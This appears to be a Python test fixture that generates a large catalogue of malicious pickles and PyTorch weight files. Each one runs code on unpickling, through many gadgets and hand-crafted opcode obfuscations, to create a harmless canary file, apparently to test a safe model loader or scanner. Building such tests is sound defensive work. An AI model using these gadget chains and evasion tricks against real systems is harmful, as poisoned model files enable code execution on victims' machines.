"""Pickles that run code when a program unpickles them, in many ways, and the files of weights around them.

Each makes one empty file, the canary, where an ordinary unpickler is deceived, and nothing else.
"""

import io
import marshal
import os
import pickle
import random
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.untrusted.corpus.valid import torch_file

SYSTEM = b"posix\nsystem\n"


class Call:
    """Pickles as the call of a function by its name; the function itself may be the result of such a call."""

    def __init__(self, function: "str | Call", *arguments: Any) -> None:
        self.function = Name(function) if isinstance(function, str) else function
        self.arguments = arguments

    def __call__(self) -> None:
        """Pickle asks whether a function can be called."""

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.function, self.arguments


class Name:
    """Pickles as the name of something: os.system; it need not be here, nor be the name it has at home."""

    def __init__(self, name: str) -> None:
        self.name = name

    def __call__(self) -> None:
        """Pickle asks whether a function can be called."""


class Pickler(pickle._Pickler):  # the one written in Python can be taught
    """Writes `Name` as a GLOBAL."""

    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if isinstance(obj, Name):
            module, _, last = obj.name.rpartition(".")
            self.write(b"c" + module.encode() + b"\n" + last.encode() + b"\n")
        else:
            super().save(obj, save_persistent_id)


def pickled(value: Any, protocol: int = 2) -> bytes:
    """The pickle of a `Call`."""
    file = io.BytesIO()
    Pickler(file, protocol).dump(value)
    return file.getvalue()


def get(owner: Any, name: str) -> Call:
    """An attribute of something."""
    return Call("builtins.getattr", owner, name)


def gadgets(folder: Path, canary: Path) -> dict[str, bytes]:
    """Pickles by what they misuse; files that they need are written into `folder`."""
    touch, source, script = f"touch {canary}", f"open({str(canary)!r}, 'w').close()", folder / "script.py"
    script.write_text(source)
    (folder / "hubconf.py").write_text(f"dependencies = []\ndef model():\n    {source}\n")
    (folder / "start.pth").write_text(f"import os; {source}\n")
    inner = pickled(Call("posix.system", touch))
    (folder / "inner.pkl").write_bytes(inner)
    (folder / "to_move").touch()
    (folder / "to_rename").touch()
    words, system = ["touch", str(canary)], Name("posix.system")
    compiled = marshal.dumps(compile(source, "<pickle>", "exec"))
    on_path = Call(get(Name("sys.path"), "append"), str(folder))
    imported = Call("builtins.__import__", "os")
    values = {
        "posix.system": Call("posix.system", touch),
        "os.system": Call("os.system", touch),
        "os.popen": Call(get(Call("os.popen", touch), "read")),
        "os.spawnv": Call("os.spawnv", 0, "/bin/touch", words),
        "os.spawnlp": Call("os.spawnlp", 0, "touch", *words),
        "os.spawnve": Call("os.spawnve", 0, "/bin/touch", words, {}),
        "os.posix_spawn": Call("os.waitpid", Call("posix.posix_spawn", "/bin/touch", words, {}), 0),
        "os.execv": Call("os.execv", "/bin/touch", words),
        "os.open": Call("os.open", str(canary), os.O_CREAT),
        "os.mknod": Call("os.mknod", str(canary)),
        "os.link": Call("os.link", str(script), str(canary)),
        "os.symlink": Call("os.symlink", str(script), str(canary)),
        "os.mkdir": Call("os.mkdir", str(canary)),
        "os.rename": Call("os.rename", str(folder / "to_rename"), str(canary)),
        "subprocess.call": Call("subprocess.call", words),
        "subprocess.run": Call("subprocess.run", words),
        "subprocess.check_call": Call("subprocess.check_call", words),
        "subprocess.check_output": Call("subprocess.check_output", words),
        "subprocess.getoutput": Call("subprocess.getoutput", touch),
        "subprocess.getstatusoutput": Call("subprocess.getstatusoutput", touch),
        "subprocess.Popen": Call(get(Call("subprocess.Popen", words), "wait")),
        "builtins.exec": Call("builtins.exec", source),
        "builtins.eval": Call("builtins.eval", source),
        "builtins.open": Call("builtins.open", str(canary), "w"),
        "io.open": Call("io.open", str(canary), "w"),
        "_io.FileIO": Call("_io.FileIO", str(canary), "w"),
        "builtins.compile": Call("builtins.exec", Call("builtins.compile", source, "x", "exec")),
        "__builtin__.eval": Call("__builtin__.eval", source),
        "builtins.getattr": Call(get(imported, "system"), touch),
        "builtins.map": Call("builtins.list", Call("builtins.map", system, [touch])),
        "builtins.filter": Call("builtins.set", Call("builtins.filter", system, [touch])),
        "itertools.starmap": Call("builtins.list", Call("itertools.starmap", system, [(touch,)])),
        "functools.partial": Call(Call("functools.partial", system, touch)),
        "functools.reduce": Call("functools.reduce", Name("builtins.exec"), [source, {}]),
        "operator.methodcaller": Call(Call("operator.methodcaller", "system", touch), imported),
        "operator.attrgetter": Call(Call(Call("operator.attrgetter", "system"), imported), touch),
        "operator.call": Call("operator.call", system, touch),
        "runpy.run_path": Call("runpy.run_path", str(script)),
        "runpy._run_code": Call("runpy._run_code", Call("builtins.compile", source, "x", "exec"), {}),
        "importlib.import_module": [on_path, Call("importlib.import_module", "script")],
        "builtins.__import__": [on_path, Call("builtins.__import__", "script")],
        "a name alone": [on_path, Name("script.source")],
        "SourceFileLoader": Call(get(Call("importlib.machinery.SourceFileLoader", "x", str(script)), "load_module")),
        "pkgutil.resolve_name": Call(Call("pkgutil.resolve_name", "os:system"), touch),
        "timeit.timeit": Call("timeit.timeit", source, "pass", Name("time.time"), 1),
        "timeit.repeat": Call("timeit.repeat", source, "pass", Name("time.time"), 1, 1),
        "code.InteractiveInterpreter": Call(get(Call("code.InteractiveInterpreter"), "runsource"), source),
        "trace.Trace": Call(get(Call("trace.Trace", 0, 0), "run"), source),
        "bdb.Bdb": Call(get(Call("bdb.Bdb"), "runcall"), system, touch),
        "profile.run": Call("profile.run", source, str(folder / "statistics")),
        "cProfile.run": Call("cProfile.run", source, str(folder / "statistics")),
        "pydoc.pipepager": Call("pydoc.pipepager", "", touch),
        "uuid._get_command_stdout": Call("uuid._get_command_stdout", *words),
        "site.addsitedir": Call("site.addsitedir", str(folder)),
        "shutil.copyfile": Call("shutil.copyfile", str(script), str(canary)),
        "shutil.move": Call("shutil.move", str(folder / "to_move"), str(canary)),
        "pathlib.Path.touch": Call(get(Call("pathlib.Path", str(canary)), "touch")),
        "pathlib.Path.write_text": Call(get(Call("pathlib.Path", str(canary)), "write_text"), "x"),
        "logging.FileHandler": Call("logging.FileHandler", str(canary)),
        "sqlite3.connect": Call("sqlite3.connect", str(canary)),
        "zipfile.ZipFile": Call("zipfile.ZipFile", str(canary), "w"),
        "tarfile.open": Call("tarfile.open", str(canary), "w"),
        "gzip.open": Call("gzip.open", str(canary), "w"),
        "urllib.request.urlretrieve": Call("urllib.request.urlretrieve", script.as_uri(), str(canary)),
        "threading.Timer": Call(get(Call("threading.Timer", 0, system, [touch]), "run")),
        "threading.Thread": Call(get(Call("threading.Thread", None, system, None, (touch,)), "run")),
        "ThreadPoolExecutor": Call(
            get(Call(get(Call("concurrent.futures.ThreadPoolExecutor", 1), "submit"), system, touch), "result")
        ),
        "multiprocessing spawnv": Call(
            "os.waitpid", Call("multiprocessing.util.spawnv_passfds", b"/bin/touch", words, []), 0
        ),
        "ctypes.CDLL": Call(get(Call("ctypes.CDLL", None), "system"), touch.encode()),
        "types.FunctionType": Call(
            Call("types.FunctionType", Call("marshal.loads", compiled), {"open": Name("builtins.open")})
        ),
        "marshal.loads": Call("builtins.exec", Call("marshal.loads", compiled)),
        "pickle.loads": Call("pickle.loads", inner),
        "_pickle.loads": Call("_pickle.loads", inner),
        "pickle.load": Call("pickle.load", Call("builtins.open", str(folder / "inner.pkl"), "rb")),
        "pickle.Unpickler": Call(get(Call("pickle._Unpickler", Call("io.BytesIO", inner)), "load")),
        "weakref.finalize": Call(Call("weakref.finalize", Name("pickle.Unpickler"), system, touch)),
        "numpy.__builtins__": Call(Call("operator.getitem", Name("numpy.__builtins__"), "exec"), source),
        "numpy.load": Call("numpy.load", str(folder / "inner.pkl"), None, True),
        "numpy runstring": Call("numpy.testing._private.utils.runstring", source, {}),
        "numpy.memmap": Call("numpy.memmap", str(canary), "u1", "w+", 0, (1,)),
        "torch.load": Call("torch.storage._load_from_bytes", torch_zip(inner)),
        "torch.hub": Call("torch.hub._load_local", str(folder), "model"),
        "torch collect_env": Call("torch.utils.collect_env.run", touch),
        "torch._rebuild_from_type_v2": Call(
            "torch._tensor._rebuild_from_type_v2", system, Name("builtins.object"), (touch,), {}
        ),
    }
    return {name: pickled(value) for name, value in values.items()} | machine_code(touch)


def machine_code(touch: str) -> dict[str, bytes]:
    """The same call by other words of the language, some of them to hide what is called."""
    text = b"X" + len(touch).to_bytes(4, "little") + touch.encode()
    path = b"X" + (len(touch) - 6).to_bytes(4, "little") + touch[6:].encode()
    short = lambda word: b"\x8c" + bytes([len(word)]) + word  # noqa: E731
    call = text + b"\x85R"  # a tuple of one, REDUCE
    framed = b"c" + SYSTEM + call + b"."
    build = b"c__main__\nLoaded\n)\x81}" + short(b"__setstate__") + b"c" + SYSTEM + b"sb" + text + b"b."
    return {
        "protocol 0": b"cposix\nsystem\n(S'" + touch.encode() + b"'\ntR.",
        "protocol 1": b"c" + SYSTEM + b"(" + text + b"tR.",
        "INST": b"\x80\x02(" + text + b"i" + SYSTEM + b".",
        "OBJ": b"\x80\x02(c" + SYSTEM + text + b"o.",
        "STACK_GLOBAL": b"\x80\x04" + short(b"posix") + short(b"system") + b"\x93" + call + b".",
        "STACK_GLOBAL by memo": b"\x80\x04"
        + short(b"system")
        + b"\x94"
        + short(b"posix")
        + b"\x940h\x01h\x00\x93"
        + call
        + b".",
        "memo written twice": b"\x80\x02ccollections\nOrderedDict\nq\x000c" + SYSTEM + b"q\x000h\x00" + call + b".",
        "extension registry": b"\x80\x02ccopyreg\nadd_extension\n("
        + short(b"posix")
        + short(b"system")
        + b"K\xf0tR0\x82\xf0"
        + call
        + b".",
        "NEWOBJ": b"\x80\x02cnumpy\nmemmap\n(" + path + short(b"u1") + short(b"w+") + b"K\x00K\x01\x85t\x81.",
        "BUILD": b"\x80\x02" + build,
        "within a tensor's call": b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n(c" + SYSTEM + call + b"K\x00))\x89}tR.",
        "a name that nobody calls": b"\x80\x02}K\x01c" + SYSTEM + b"s.",
        "key of a dict": b"\x80\x02}c" + SYSTEM + call + b"K\x01s.",
        "persistent id": b"\x80\x02(" + short(b"storage") + b"c" + SYSTEM + call + b"tQ.",
        "after an end": b"\x80\x02}0c" + SYSTEM + call + b".",
        "in frames": b"\x80\x04\x95" + len(framed).to_bytes(8, "little") + framed,
    }


def torch_zip(data: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A zip as torch.save writes it, with this pickle."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in {"data.pkl": data, "byteorder": b"little", "version": b"3\n", **(extra or {})}.items():
            archive.writestr(f"archive/{name}", content)
    return file.getvalue()


def older(data: bytes) -> bytes:
    """What torch.save wrote before 1.6, with this pickle as the state."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    first = [pickle.dumps(value, protocol=2) for value in (0x1950A86A20F9469CFC6C, 1001, system)]
    return b"".join([*first, data, pickle.dumps([], protocol=2)])


def tar(data: bytes) -> bytes:
    """What PyTorch 0.1 wrote."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, content in {"storages": pickle.dumps(0), "tensors": pickle.dumps(0), "pickle": data}.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return file.getvalue()


def beside(data: bytes) -> bytes:
    """A sound file with the pickle as one more member."""
    file = io.BytesIO(torch_file())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("archive/extra.pkl", data)
    return file.getvalue()


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "zip": torch_zip,
    "older": older,
    "bare": lambda data: data,  # as pickle, dill and joblib write it
    "tar": tar,
    "beside": beside,
}


def random_pickle(chance: random.Random, touch: str) -> bytes:
    """Words of the language in random order, with names that run code among them."""
    words = [
        b"(",
        b"0",
        b"1",
        b"2",
        b"}",
        b"]",
        b")",
        b"t",
        b"\x85",
        b"\x86",
        b"\x87",
        b"R",
        b"b",
        b"s",
        b"u",
        b"a",
        b"e",
        b"Q",
        b"N",
        b"\x88",
        b"\x89",
        b"K\x01",
        b"q\x00",
        b"q\x01",
        b"h\x00",
        b"h\x01",
        b"\x94",
        b"\x93",
        b"\x81",
        b"o",
        b"\x82\x01",
        b"c" + SYSTEM,
        b"cbuiltins\nexec\n",
        b"ccollections\nOrderedDict\n",
        b"ctorch._utils\n_rebuild_tensor_v2\n",
        b"ctorch\nFloatStorage\n",
        b"ctorch.nn.parameter\nParameter\n",
        b"X" + len(touch).to_bytes(4, "little") + touch.encode(),
        b"\x8c\x07storage",
        b"\x8c\x05posix",
        b"\x8c\x06system",
        b"i" + SYSTEM,
    ]
    return b"\x80\x02" + b"".join(chance.choices(words, k=chance.randrange(3, 40))) + b"."
